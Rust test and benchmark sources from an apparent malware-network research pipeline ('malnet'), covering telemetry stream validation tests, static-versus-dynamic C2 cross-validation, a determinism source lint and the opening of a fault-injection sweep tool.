    h.write_json("results/BENCH_components.json");
    for f in &failures {
        eprintln!("FAIL: {f}");
    }
    if !failures.is_empty() {
        std::process::exit(1);
    }
}
