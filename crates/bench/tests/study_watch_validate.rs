//! End-to-end tests for `study_watch --validate`'s failure paths.
//!
//! The consistency contract (`fold_matches_report`) says folding the
//! `malnet.events` stream must reconstruct the final report's counters
//! and rollup rows exactly. These tests build a small real stream and
//! report through the telemetry API, then corrupt the stream in ways
//! that keep it *structurally* valid — so only the cross-check can
//! catch them — and assert the watcher exits non-zero.

use std::path::{Path, PathBuf};
use std::process::Output;

use malnet_telemetry::{EventSink, Field, Telemetry};

/// Build a two-day stream plus matching report under a fresh directory,
/// returning `(events_path, report_path)`.
fn write_study(dir: &Path) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(dir).unwrap();
    let events = dir.join("events.jsonl");
    let report = dir.join("run_report.json");
    let sink = EventSink::create(&events).unwrap();
    let tel = Telemetry::enabled_with_events(sink);
    tel.event("day_start", None, &[("day", Field::U(0))]);
    tel.add("sandbox.instructions_retired", 4100);
    tel.add("analysis.samples", 3);
    tel.rollup("day", &[("day", 0), ("samples", 3)]);
    tel.event("day_start", None, &[("day", Field::U(1))]);
    tel.add("sandbox.instructions_retired", 1700);
    tel.add("analysis.samples", 2);
    tel.rollup("day", &[("day", 1), ("samples", 2)]);
    tel.counters_event();
    tel.finish_events();
    std::fs::write(&report, tel.report().to_json()).unwrap();
    (events, report)
}

fn run_validate(events: &Path, report: &Path) -> Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_study_watch"))
        .arg("--events")
        .arg(events)
        .arg("--report")
        .arg(report)
        .arg("--validate")
        .output()
        .expect("spawn study_watch")
}

/// A scratch directory unique to this test binary + test name. Inside
/// the target dir so ordinary cleanup sweeps it away.
fn scratch(test: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../target/tmp/study_watch_validate")
        .join(format!("{}-{}", std::process::id(), test))
}

/// `--follow` must keep watching an incomplete stream (including one
/// whose last line is torn mid-JSON) and exit cleanly once the
/// remainder — ending in `stream_end` — is appended. This drives the
/// stateful `StreamTail` path end to end: the watcher only ever reads
/// the appended bytes, so the torn line is carried across ticks and
/// folded exactly once when its terminator lands.
#[test]
fn follow_tails_a_growing_stream_to_completion() {
    use std::io::Write;

    let dir = scratch("follow-grows");
    std::fs::create_dir_all(&dir).unwrap();
    let sink = EventSink::in_memory();
    let tel = Telemetry::enabled_with_events(sink.clone());
    for day in 0..6u64 {
        tel.event("day_start", None, &[("day", Field::U(day))]);
        tel.event(
            "heartbeat",
            None,
            &[("day", Field::U(day)), ("samples_completed", Field::U(day))],
        );
        tel.rollup("day", &[("day", day), ("samples", 1)]);
    }
    tel.counters_event();
    tel.finish_events();
    let text = sink.contents().unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let split = lines.len() / 2;

    // First write: half the stream plus a torn fragment of the next line.
    let events = dir.join("events.jsonl");
    let (torn_head, torn_tail) = lines[split].split_at(lines[split].len() / 2);
    let mut first = lines[..split].join("\n");
    first.push('\n');
    first.push_str(torn_head);
    std::fs::write(&events, &first).unwrap();

    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_study_watch"))
        .arg("--events")
        .arg(&events)
        .arg("--follow")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn study_watch --follow");
    // Give the watcher a couple of poll ticks on the incomplete stream:
    // it must still be running (no stream_end yet).
    std::thread::sleep(std::time::Duration::from_millis(1500));
    assert!(
        child.try_wait().unwrap().is_none(),
        "watcher exited before stream_end arrived"
    );

    // Append the rest: the torn line's terminator, then everything up
    // to and including stream_end.
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&events)
        .unwrap();
    writeln!(f, "{torn_tail}").unwrap();
    for line in &lines[split + 1..] {
        writeln!(f, "{line}").unwrap();
    }
    drop(f);

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "watcher never saw stream_end"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert!(status.success(), "watcher exited {status:?}");
    let mut stdout = String::new();
    use std::io::Read;
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    assert!(
        stdout.contains("study complete"),
        "final render missing: {stdout}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pristine_stream_validates_against_its_report() {
    let dir = scratch("pristine");
    let (events, report) = write_study(&dir);
    let out = run_validate(&events, &report);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "expected exit 0, got {:?}\nstdout: {stdout}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("fold OK"), "stdout: {stdout}");
}

#[test]
fn tampered_counter_snapshot_fails_the_fold() {
    let dir = scratch("tampered-counter");
    let (events, report) = write_study(&dir);
    // Raise one value in the final counters snapshot. The stream stays
    // structurally valid (a single snapshot has nothing to be monotone
    // against), but the fold no longer reconstructs the report.
    let text = std::fs::read_to_string(&events).unwrap();
    let tampered = text.replace("\"analysis.samples\":5", "\"analysis.samples\":6");
    assert_ne!(text, tampered, "tamper target not found in stream");
    std::fs::write(&events, tampered).unwrap();
    let out = run_validate(&events, &report);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("does not reconstruct the report's counters"),
        "stderr: {stderr}"
    );
}

#[test]
fn dropped_rollup_row_fails_the_fold() {
    let dir = scratch("dropped-rollup");
    let (events, report) = write_study(&dir);
    // Delete the day-1 rollup line, then repair the evidence: renumber
    // every remaining seq and fix stream_end's declared event count so
    // validate_stream has nothing to object to. Only the report
    // cross-check can notice the missing row.
    let text = std::fs::read_to_string(&events).unwrap();
    let kept: Vec<&str> = text
        .lines()
        .filter(|l| !(l.contains("\"event\":\"rollup\"") && l.contains("\"day\":1")))
        .collect();
    assert_eq!(kept.len(), text.lines().count() - 1, "no rollup dropped");
    let total = kept.len();
    let mut rewritten = String::new();
    for (i, line) in kept.iter().enumerate() {
        let rest = line
            .split_once(',')
            .map(|(_, rest)| rest)
            .expect("event line has fields");
        rewritten.push_str(&format!("{{\"seq\":{i},{rest}"));
        rewritten.push('\n');
    }
    let old_end = format!("\"events\":{}", total + 1);
    let new_end = format!("\"events\":{total}");
    assert!(rewritten.contains(&old_end), "stream_end count not found");
    let rewritten = rewritten.replace(&old_end, &new_end);
    std::fs::write(&events, rewritten).unwrap();
    let out = run_validate(&events, &report);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("does not reconstruct the report's rollups"),
        "stderr: {stderr}"
    );
}
