//! End-to-end tests for `study_watch --validate`'s failure paths.
//!
//! The consistency contract (`fold_matches_report`) says folding the
//! `malnet.events` stream must reconstruct the final report's counters
//! and rollup rows exactly. These tests build a small real stream and
//! report through the telemetry API, then corrupt the stream in ways
//! that keep it *structurally* valid — so only the cross-check can
//! catch them — and assert the watcher exits non-zero.

use std::path::{Path, PathBuf};
use std::process::Output;

use malnet_telemetry::{EventSink, Field, Telemetry};

/// Build a two-day stream plus matching report under a fresh directory,
/// returning `(events_path, report_path)`.
fn write_study(dir: &Path) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(dir).unwrap();
    let events = dir.join("events.jsonl");
    let report = dir.join("run_report.json");
    let sink = EventSink::create(&events).unwrap();
    let tel = Telemetry::enabled_with_events(sink);
    tel.event("day_start", None, &[("day", Field::U(0))]);
    tel.add("sandbox.instructions_retired", 4100);
    tel.add("analysis.samples", 3);
    tel.rollup("day", &[("day", 0), ("samples", 3)]);
    tel.event("day_start", None, &[("day", Field::U(1))]);
    tel.add("sandbox.instructions_retired", 1700);
    tel.add("analysis.samples", 2);
    tel.rollup("day", &[("day", 1), ("samples", 2)]);
    tel.counters_event();
    tel.finish_events();
    std::fs::write(&report, tel.report().to_json()).unwrap();
    (events, report)
}

fn run_validate(events: &Path, report: &Path) -> Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_study_watch"))
        .arg("--events")
        .arg(events)
        .arg("--report")
        .arg(report)
        .arg("--validate")
        .output()
        .expect("spawn study_watch")
}

/// A scratch directory unique to this test binary + test name. Inside
/// the target dir so ordinary cleanup sweeps it away.
fn scratch(test: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../target/tmp/study_watch_validate")
        .join(format!("{}-{}", std::process::id(), test))
}

#[test]
fn pristine_stream_validates_against_its_report() {
    let dir = scratch("pristine");
    let (events, report) = write_study(&dir);
    let out = run_validate(&events, &report);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "expected exit 0, got {:?}\nstdout: {stdout}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("fold OK"), "stdout: {stdout}");
}

#[test]
fn tampered_counter_snapshot_fails_the_fold() {
    let dir = scratch("tampered-counter");
    let (events, report) = write_study(&dir);
    // Raise one value in the final counters snapshot. The stream stays
    // structurally valid (a single snapshot has nothing to be monotone
    // against), but the fold no longer reconstructs the report.
    let text = std::fs::read_to_string(&events).unwrap();
    let tampered = text.replace("\"analysis.samples\":5", "\"analysis.samples\":6");
    assert_ne!(text, tampered, "tamper target not found in stream");
    std::fs::write(&events, tampered).unwrap();
    let out = run_validate(&events, &report);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("does not reconstruct the report's counters"),
        "stderr: {stderr}"
    );
}

#[test]
fn dropped_rollup_row_fails_the_fold() {
    let dir = scratch("dropped-rollup");
    let (events, report) = write_study(&dir);
    // Delete the day-1 rollup line, then repair the evidence: renumber
    // every remaining seq and fix stream_end's declared event count so
    // validate_stream has nothing to object to. Only the report
    // cross-check can notice the missing row.
    let text = std::fs::read_to_string(&events).unwrap();
    let kept: Vec<&str> = text
        .lines()
        .filter(|l| !(l.contains("\"event\":\"rollup\"") && l.contains("\"day\":1")))
        .collect();
    assert_eq!(kept.len(), text.lines().count() - 1, "no rollup dropped");
    let total = kept.len();
    let mut rewritten = String::new();
    for (i, line) in kept.iter().enumerate() {
        let rest = line
            .split_once(',')
            .map(|(_, rest)| rest)
            .expect("event line has fields");
        rewritten.push_str(&format!("{{\"seq\":{i},{rest}"));
        rewritten.push('\n');
    }
    let old_end = format!("\"events\":{}", total + 1);
    let new_end = format!("\"events\":{total}");
    assert!(rewritten.contains(&old_end), "stream_end count not found");
    let rewritten = rewritten.replace(&old_end, &new_end);
    std::fs::write(&events, rewritten).unwrap();
    let out = run_validate(&events, &report);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("does not reconstruct the report's rollups"),
        "stderr: {stderr}"
    );
}
