//! Cross-validate the static triage against the dynamic pipeline.
//!
//! Runs the `fast()` pipeline with triage enabled, scores static C2
//! candidates against the dynamically observed per-sample C2 addresses
//! (`malnet_core::eval::static_cross_validation`), writes
//! `results/static_report.json` (schema `malnet.static_report` v1,
//! aggregate flavour: per-family precision/recall plus overall), then
//! re-reads and validates the artifact. Exits non-zero if the static
//! pass recovered < 90% of the hardcoded-IP C2s the sandbox observed —
//! the ISSUE's acceptance bar for endpoint extraction "without
//! executing an instruction".
//!
//! Usage:
//! `cargo run -p malnet-bench --release --bin static_xval -- [--samples N] [--seed S]`

use malnet_bench::parse_args;
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::eval::{static_cross_validation, XvalScore};
use malnet_core::{Pipeline, PipelineOpts};
use malnet_telemetry::json;
use malnet_xray::report::json_escape;

/// Minimum acceptable recall of hardcoded-IP C2s (percent).
const IP_RECALL_BAR: f64 = 90.0;

fn score_json(s: &XvalScore) -> String {
    format!(
        "{{\"family\":\"{}\",\"samples\":{},\"static_candidates\":{},\"dynamic_c2s\":{},\
         \"agreed\":{},\"dynamic_ips\":{},\"ip_agreed\":{},\"precision\":{:.2},\
         \"recall\":{:.2},\"ip_recall\":{:.2}}}",
        json_escape(&s.family),
        s.samples,
        s.static_candidates,
        s.dynamic_c2s,
        s.agreed,
        s.dynamic_ips,
        s.ip_agreed,
        s.precision(),
        s.recall(),
        s.ip_recall()
    )
}

fn main() {
    let mut opts = parse_args();
    if opts.samples == 1447 {
        opts.samples = 48; // CI-sized corpus; still hits every family
    }
    let world = World::generate(WorldConfig {
        seed: opts.seed,
        n_samples: opts.samples,
        cal: Calibration::default(),
    });
    let popts = PipelineOpts {
        seed: opts.seed,
        parallelism: 2,
        max_samples: Some(opts.samples),
        ..PipelineOpts::fast()
    };
    let (data, _vendors) = Pipeline::new(popts).run(&world);
    println!(
        "pipeline done: {} samples, {} triage records, {} C2s",
        data.samples.len(),
        data.triage.len(),
        data.c2s.len()
    );

    let xval = static_cross_validation(&data);
    print!("{xval}");

    let mut out = String::new();
    out.push_str(&format!(
        "{{\"schema\":\"{}\",\"version\":{},\"seed\":{},\"samples\":{},",
        malnet_xray::SCHEMA,
        malnet_xray::VERSION,
        opts.seed,
        data.samples.len()
    ));
    out.push_str("\"per_family\":[");
    for (i, s) in xval.per_family.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&score_json(s));
    }
    out.push_str("],\"overall\":");
    out.push_str(&score_json(&xval.overall));
    out.push('}');

    let path = std::path::Path::new("results/static_report.json");
    if let Some(dir) = path.parent() {
        let _ = std::fs::create_dir_all(dir);
    }
    std::fs::write(path, &out).expect("write static report");
    println!("wrote {} ({} bytes)", path.display(), out.len());

    // --- verification: re-read, parse, enforce the recall bar ---
    let reread = std::fs::read_to_string(path).expect("re-read static report");
    let v = match json::parse(&reread) {
        Ok(v) => v,
        Err(e) => {
            eprintln!("FAIL: static report is not valid JSON: {e}");
            std::process::exit(1);
        }
    };
    let mut failures = Vec::new();
    if v.get("schema").and_then(|s| s.as_str()) != Some(malnet_xray::SCHEMA) {
        failures.push("schema field missing or wrong".to_string());
    }
    if v.get("version").and_then(|n| n.as_u64()) != Some(malnet_xray::VERSION) {
        failures.push("version field missing or wrong".to_string());
    }
    if v.get("per_family")
        .and_then(|a| a.as_array())
        .is_none_or(<[_]>::is_empty)
    {
        failures.push("per_family missing or empty".to_string());
    }
    let overall = &xval.overall;
    if overall.samples == 0 || overall.dynamic_ips == 0 {
        failures.push("nothing to cross-validate (no triaged samples with dynamic IP C2s)".into());
    }
    if overall.ip_recall() < IP_RECALL_BAR {
        failures.push(format!(
            "hardcoded-IP C2 recall {:.1}% below the {IP_RECALL_BAR}% bar \
             ({} of {} dynamic IPs recovered statically)",
            overall.ip_recall(),
            overall.ip_agreed,
            overall.dynamic_ips
        ));
    }
    if !failures.is_empty() {
        for f in &failures {
            eprintln!("FAIL: {f}");
        }
        std::process::exit(1);
    }
    println!(
        "static xval OK: ip-recall {:.1}% (bar {IP_RECALL_BAR}%), precision {:.1}%, recall {:.1}%",
        overall.ip_recall(),
        overall.precision(),
        overall.recall()
    );
}
