//! Determinism source-lint for the workspace.
//!
//! The pipeline's core guarantee — byte-identical datasets across
//! parallelism levels *and across processes* — is easy to break with
//! two innocuous-looking constructs, so CI greps for them:
//!
//! * **Wall clocks** (`SystemTime::now`, `Instant::now`, `std::time`)
//!   anywhere outside `crates/telemetry` (the sanctioned observer — use
//!   [`Telemetry::stopwatch`] from other crates) and `crates/bench`
//!   (offline measurement harness; its timings never feed the
//!   simulation). The exemption is *re-applied* to the telemetry
//!   modules that construct event-stream and trace payloads
//!   (`events.rs`, `trace.rs`): the `malnet.events` stream must stay
//!   deterministic, so the only time-like inputs allowed there are
//!   values handed in by callers (a `Telemetry::stopwatch` reading such
//!   as the day rollup's `wall_us`) and the sink's own sequence
//!   numbers — never a clock read of their own.
//! * **Hash collections** (`HashMap`/`HashSet`) in `crates/core/src`
//!   and `crates/wire/src`, where iteration order feeds serialized or
//!   merged output. `RandomState` is seeded per-process, so iterating
//!   a hash map reorders output between *runs* even with a fixed seed.
//!   Lookup-only maps are fine: annotate the declaration (same or
//!   previous line) with `lint: hash-ok` and say why.
//!
//! * **Panic sites** (`panic!`, `.unwrap()`, `.expect(`) in
//!   `crates/core/src` and `crates/wire/src` production code. One
//!   crashing sample must degrade into D-Health, not abort a multi-day
//!   study (see DESIGN.md §robustness). Deliberate sites — invariants
//!   that genuinely cannot fail, or the chaos layer's forced panic —
//!   are annotated `lint: panic-ok` (same or previous line) with a
//!   justification. Test modules (everything after a `#[cfg(test)]`
//!   line) are exempt: a test *should* panic on a broken invariant.
//!
//! Comment lines and (for the hash rule) `use` declarations are
//! ignored; importing a type is not a hazard, iterating it is.
//!
//! Usage: `cargo run -p malnet-bench --bin source_lint` from the
//! workspace root. Exits non-zero listing every violation.
//!
//! [`Telemetry::stopwatch`]: malnet_telemetry::Telemetry::stopwatch

use std::path::{Path, PathBuf};

/// One lint hit.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Violation {
    /// Workspace-relative path (forward slashes).
    file: String,
    /// 1-indexed line.
    line: usize,
    /// Which rule fired (`clock`, `hash`, or `panic`).
    rule: &'static str,
    /// The offending source line, trimmed.
    text: String,
}

impl std::fmt::Display for Violation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}:{}: [{}] {}",
            self.file, self.line, self.rule, self.text
        )
    }
}

const CLOCK_TOKENS: &[&str] = &["SystemTime::now", "Instant::now", "std::time"];
const CLOCK_EXEMPT_PREFIXES: &[&str] = &["crates/telemetry/", "crates/bench/"];
/// Files inside a clock-exempt crate where the rule applies anyway:
/// event-stream and trace payload construction must be wall-clock-free
/// (only caller-supplied `Telemetry::stopwatch` readings and sequence
/// numbers may appear in payloads) or streaming would reintroduce the
/// schedule-dependence telemetry is proven not to have.
const CLOCK_REAPPLIED_FILES: &[&str] = &[
    "crates/telemetry/src/events.rs",
    "crates/telemetry/src/trace.rs",
];
const HASH_TOKENS: &[&str] = &["HashMap", "HashSet"];
const HASH_SCOPED_PREFIXES: &[&str] = &["crates/core/src/", "crates/wire/src/"];
const PANIC_TOKENS: &[&str] = &["panic!", ".unwrap()", ".expect("];
const PANIC_SCOPED_PREFIXES: &[&str] = &["crates/core/src/", "crates/wire/src/"];

/// Pure lint over one file's content. `path` is workspace-relative with
/// forward slashes.
fn lint_source(path: &str, content: &str) -> Vec<Violation> {
    let clock_applies = CLOCK_REAPPLIED_FILES.contains(&path)
        || !CLOCK_EXEMPT_PREFIXES.iter().any(|p| path.starts_with(p));
    let hash_applies = HASH_SCOPED_PREFIXES.iter().any(|p| path.starts_with(p));
    let panic_applies = PANIC_SCOPED_PREFIXES.iter().any(|p| path.starts_with(p));
    if !clock_applies && !hash_applies && !panic_applies {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut prev_line = "";
    // Unit-test modules sit at the bottom of each file behind
    // `#[cfg(test)]`; the panic rule stops applying there.
    let mut in_tests = false;
    for (i, line) in content.lines().enumerate() {
        let trimmed = line.trim_start();
        if trimmed.starts_with("#[cfg(test)]") {
            in_tests = true;
        }
        let is_comment = trimmed.starts_with("//");
        let allowed = |marker: &str| line.contains(marker) || prev_line.contains(marker);
        if clock_applies
            && !is_comment
            && !allowed("lint: clock-ok")
            && CLOCK_TOKENS.iter().any(|t| line.contains(t))
        {
            out.push(Violation {
                file: path.to_string(),
                line: i + 1,
                rule: "clock",
                text: trimmed.trim_end().to_string(),
            });
        }
        if hash_applies
            && !is_comment
            && !trimmed.starts_with("use ")
            && !allowed("lint: hash-ok")
            && HASH_TOKENS.iter().any(|t| line.contains(t))
        {
            out.push(Violation {
                file: path.to_string(),
                line: i + 1,
                rule: "hash",
                text: trimmed.trim_end().to_string(),
            });
        }
        if panic_applies
            && !in_tests
            && !is_comment
            && !allowed("lint: panic-ok")
            && PANIC_TOKENS.iter().any(|t| line.contains(t))
        {
            out.push(Violation {
                file: path.to_string(),
                line: i + 1,
                rule: "panic",
                text: trimmed.trim_end().to_string(),
            });
        }
        prev_line = line;
    }
    out
}

/// Collect every `.rs` file under `root`, skipping `target/` and hidden
/// directories. Returned paths are sorted for stable output.
fn collect_rs_files(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let name = entry.file_name();
            let name = name.to_string_lossy();
            if path.is_dir() {
                if name == "target" || name.starts_with('.') {
                    continue;
                }
                stack.push(path);
            } else if name.ends_with(".rs") {
                out.push(path);
            }
        }
    }
    out.sort();
    out
}

fn main() {
    let root = std::env::current_dir().expect("cwd");
    let files = collect_rs_files(&root);
    if files.is_empty() {
        eprintln!("FAIL: no .rs files found under {} — run from the workspace root", root.display());
        std::process::exit(1);
    }
    let mut violations = Vec::new();
    for file in &files {
        let rel = file
            .strip_prefix(&root)
            .unwrap_or(file)
            .to_string_lossy()
            .replace('\\', "/");
        let Ok(content) = std::fs::read_to_string(file) else {
            continue;
        };
        violations.extend(lint_source(&rel, &content));
    }
    if violations.is_empty() {
        println!("source lint OK: {} files, 0 violations", files.len());
        return;
    }
    for v in &violations {
        eprintln!("FAIL: {v}");
    }
    eprintln!(
        "{} violation(s). Clocks belong in crates/telemetry (use Telemetry::stopwatch \
         elsewhere); hash collections in core/wire need a `lint: hash-ok` justification \
         or a BTree collection; panic sites in core/wire production code need typed \
         errors / quarantine or a `lint: panic-ok` justification.",
        violations.len()
    );
    std::process::exit(1);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeded_clock_violation_is_caught() {
        let bad = "fn f() {\n    let t = std::time::Instant::now();\n}\n";
        let v = lint_source("crates/core/src/pipeline.rs", bad);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, "clock");
        assert_eq!(v[0].line, 2);
    }

    #[test]
    fn clocks_allowed_in_telemetry_and_bench() {
        let src = "use std::time::Instant;\nlet t = Instant::now();\n";
        assert!(lint_source("crates/telemetry/src/lib.rs", src).is_empty());
        assert!(lint_source("crates/bench/benches/components.rs", src).is_empty());
        assert_eq!(lint_source("crates/sandbox/src/emu.rs", src).len(), 2);
    }

    #[test]
    fn clock_rule_reapplies_to_event_payload_modules() {
        // The telemetry crate is clock-exempt — except in the modules
        // that build event-stream / trace payloads, where a clock read
        // would leak schedule-dependence into the stream.
        let src = "use std::time::Instant;\nlet t = Instant::now();\n";
        assert_eq!(lint_source("crates/telemetry/src/events.rs", src).len(), 2);
        assert_eq!(lint_source("crates/telemetry/src/trace.rs", src).len(), 2);
        assert_eq!(
            lint_source("crates/telemetry/src/events.rs", src)[0].rule,
            "clock"
        );
        // The marker still works for a justified site.
        let marked = "let t = Instant::now(); // lint: clock-ok\n";
        assert!(lint_source("crates/telemetry/src/events.rs", marked).is_empty());
        // The rest of the crate (the span clock itself) stays exempt.
        assert!(lint_source("crates/telemetry/src/lib.rs", src).is_empty());
    }

    #[test]
    fn seeded_hash_violation_is_caught_and_marker_clears_it() {
        let bad = "fn f() {\n    let m: HashMap<u32, u32> = HashMap::new();\n}\n";
        let v = lint_source("crates/core/src/c2detect.rs", bad);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, "hash");

        let marked_same =
            "fn f() {\n    let m: HashMap<u32, u32> = HashMap::new(); // lint: hash-ok\n}\n";
        assert!(lint_source("crates/core/src/c2detect.rs", marked_same).is_empty());
        let marked_prev =
            "fn f() {\n    // lookup only. lint: hash-ok\n    let m: HashMap<u32, u32> = HashMap::new();\n}\n";
        assert!(lint_source("crates/core/src/c2detect.rs", marked_prev).is_empty());
    }

    #[test]
    fn hash_rule_scope_and_exemptions() {
        let src = "let m = HashMap::new();\n";
        // Out of scope: other crates, and non-src dirs of scoped crates.
        assert!(lint_source("crates/intel/src/lib.rs", src).is_empty());
        assert!(lint_source("crates/core/tests/determinism.rs", src).is_empty());
        // Imports and comments don't trip the rule.
        assert!(lint_source(
            "crates/wire/src/dns.rs",
            "use std::collections::HashMap;\n// a HashMap would be bad here\n"
        )
        .is_empty());
        assert_eq!(lint_source("crates/wire/src/dns.rs", src).len(), 1);
    }

    #[test]
    fn panic_violation_is_caught_and_marker_clears_it() {
        let bad = "fn f(v: Option<u32>) -> u32 {\n    v.unwrap()\n}\n";
        let v = lint_source("crates/core/src/pipeline.rs", bad);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, "panic");
        assert_eq!(v[0].line, 2);

        let marked =
            "fn f(v: Option<u32>) -> u32 {\n    // set above. lint: panic-ok\n    v.unwrap()\n}\n";
        assert!(lint_source("crates/core/src/pipeline.rs", marked).is_empty());
    }

    #[test]
    fn panic_rule_skips_test_modules_and_other_crates() {
        let src = "fn prod(v: Option<u32>) -> u32 {\n    v.expect(\"set\")\n}\n\
                   #[cfg(test)]\nmod tests {\n    fn t() { panic!(\"boom\") }\n}\n";
        let v = lint_source("crates/wire/src/dns.rs", src);
        assert_eq!(v.len(), 1, "{v:#?}");
        assert_eq!(v[0].line, 2);
        // Out of scope entirely: other crates and test directories.
        assert!(lint_source("crates/sandbox/src/emu.rs", src).is_empty());
        assert!(lint_source("crates/core/tests/determinism.rs", src).is_empty());
    }

    #[test]
    fn comment_lines_do_not_trip_the_clock_rule() {
        let src = "// never call Instant::now() here\nfn g() {}\n";
        assert!(lint_source("crates/core/src/pipeline.rs", src).is_empty());
    }

    #[test]
    fn workspace_is_currently_clean() {
        // The real tree must pass its own lint; the workspace root is
        // two levels above this crate's manifest.
        let root = Path::new(env!("CARGO_MANIFEST_DIR"))
            .ancestors()
            .nth(2)
            .map(Path::to_path_buf)
            .expect("workspace root");
        assert!(root.join("Cargo.toml").exists(), "not the workspace root: {}", root.display());
        let mut violations = Vec::new();
        for file in collect_rs_files(&root) {
            let rel = file
                .strip_prefix(&root)
                .unwrap_or(&file)
                .to_string_lossy()
                .replace('\\', "/");
            if let Ok(content) = std::fs::read_to_string(&file) {
                violations.extend(lint_source(&rel, &content));
            }
        }
        assert!(violations.is_empty(), "{violations:#?}");
    }
}
