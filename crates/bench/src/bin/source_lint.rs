//! Determinism source-lint for the workspace — thin alias over
//! `malnet-lint`.
//!
//! This bin used to carry its own line-based substring grep; that
//! implementation could not see strings, comments, scopes, or
//! cross-file facts, and it is now retired in favour of the token-aware
//! rule engine in `crates/lint` (lexer + rules + suppression audit; see
//! DESIGN.md §static analysis for the full catalog). The name is kept
//! for muscle memory: `cargo run -p malnet-bench --bin source_lint`
//! still runs the full rule set from the workspace root and exits
//! non-zero listing every violation.
//!
//! The CI gate is the sibling `lint_report` bin, which additionally
//! writes and self-validates the `malnet.lint_report` v1 artifact under
//! `results/`.

fn main() {
    let root = std::env::current_dir().expect("cwd");
    let lint = malnet_lint::lint_workspace(&root);
    if lint.files_scanned == 0 {
        eprintln!(
            "FAIL: no .rs files found under {} — run from the workspace root",
            root.display()
        );
        std::process::exit(1);
    }
    if lint.clean() {
        println!("source lint OK: {} files, 0 violations", lint.files_scanned);
        return;
    }
    for f in &lint.findings {
        eprintln!("FAIL: {f}");
    }
    eprintln!(
        "{} violation(s). Clocks belong in crates/telemetry (use Telemetry::stopwatch \
         elsewhere); hash collections that are iterated need a BTree collection or a \
         justified `lint: hash-ok` / `hash-iter-ok`; panic family sites in core/wire \
         production code need typed errors / quarantine or `lint: panic-ok`; RNGs \
         outside crates/prng must derive from a SeedStream domain. See DESIGN.md \
         §static analysis.",
        lint.findings.len()
    );
    std::process::exit(1);
}
