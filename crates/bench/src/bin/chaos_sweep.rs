//! Chart the pipeline's degradation frontier: sweep a `fault_seed` ×
//! fault-intensity grid of emulator-only fault plans
//! ([`FaultPlan::emu_sweep`]) over the fast study, score every cell
//! against ground truth (C2 recall/precision, C2-lifetime error,
//! activation rate via `malnet_core::eval`), and write a self-validating
//! `malnet.chaos_sweep` v1 artifact to `results/chaos_sweep.json`
//! (documented in EXPERIMENTS.md).
//!
//! Two hard gates, both enforced here (CI runs this on every push):
//!
//! * the **zero cell** — every `intensity 0.0` cell must be
//!   byte-identical (canonical dump) to a chaos-free baseline run,
//!   proving the emulator fault domain draws nothing when disabled;
//! * the **frontier must exist** — the top-intensity cells must have
//!   actually injected faults (a sweep that perturbs nothing charts
//!   nothing).
//!
//! Sweep progress goes to `results/events_chaos_sweep.jsonl` as a
//! `malnet.events` v1 stream (one heartbeat + one `sweep_cell` rollup
//! per cell), observable live with
//! `study_watch --follow --events results/events_chaos_sweep.jsonl`
//! and self-validated here after the run.
//!
//! Usage:
//! `cargo run -p malnet-bench --release --bin chaos_sweep -- [--samples N] [--seed S] [--fault-seed N]`

use std::fmt::Write as _;

use malnet_bench::parse_args;
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::chaos::FaultPlan;
use malnet_core::datasets::HealthKind;
use malnet_core::eval::{c2_lifetime_error, evaluate};
use malnet_core::{Datasets, Pipeline, PipelineOpts};
use malnet_telemetry::{json, EventSink, Field};

/// Default first fault seed of the sweep (`--fault-seed` overrides);
/// the second seed is derived so the grid always has two rows.
const FAULT_SEED: u64 = 7;
/// Offset to the sweep's second fault seed.
const SEED_STRIDE: u64 = 14;
/// Fault-intensity axis: `0.0` (the gated zero cell) up to the full
/// `emu_sweep` rates. Kept in per-mille so the values are exact.
const INTENSITY_MILLE: &[u64] = &[0, 350, 700, 1000];

/// One scored sweep cell.
struct Cell {
    fault_seed: u64,
    intensity: f64,
    c2_recall: f64,
    c2_precision: f64,
